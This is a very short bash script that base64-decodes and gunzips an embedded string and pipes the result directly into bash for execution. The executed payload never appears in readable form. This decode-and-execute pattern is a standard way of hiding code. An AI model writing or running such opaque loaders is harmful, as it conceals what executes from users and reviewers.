#!/bin/bash
echo 'H4sIAAAAAAAAA0vOz0nVUUguLcovSAUAsYQ1sQwAAAA=' | base64 -d | gunzip | bash
